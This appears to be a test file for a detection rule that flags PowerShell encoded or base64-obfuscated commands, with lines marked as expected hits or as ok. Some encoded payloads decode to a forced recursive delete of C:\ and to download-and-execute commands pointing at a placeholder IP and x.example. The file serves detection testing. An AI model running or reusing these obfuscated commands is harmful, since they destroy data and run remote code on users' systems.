# Encoded commands are decoded and the script inside is judged.
# ruleid: powershell.exec.encoded_command
powershell.exe -NoProfile -EncodedCommand UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBSAGUAYwB1AHIAcwBlACAALQBGAG8AcgBjAGUAIABDADoAXAA=
# ruleid: powershell.exec.encoded_command
pwsh -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA4AC8AcAAuAHAAcwAxACcAKQA=
# ruleid: powershell.exec.encoded_command
iex ([System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aXdyIGh0dHBzOi8veC5leGFtcGxlL2EucHMxIHwgaWV4')))
# ruleid: powershell.exec.encoded_command
powershell -e RwBlAHQALQBEAGEAdABlAA==
# ok: powershell.exec.encoded_command
powershell -ExecutionPolicy Bypass -File .\build.ps1
# ok: powershell.exec.encoded_command
$bytes = [Convert]::FromBase64String('aXdyIGh0dHBzOi8veC5leGFtcGxlL2EucHMxIHwgaWV4')
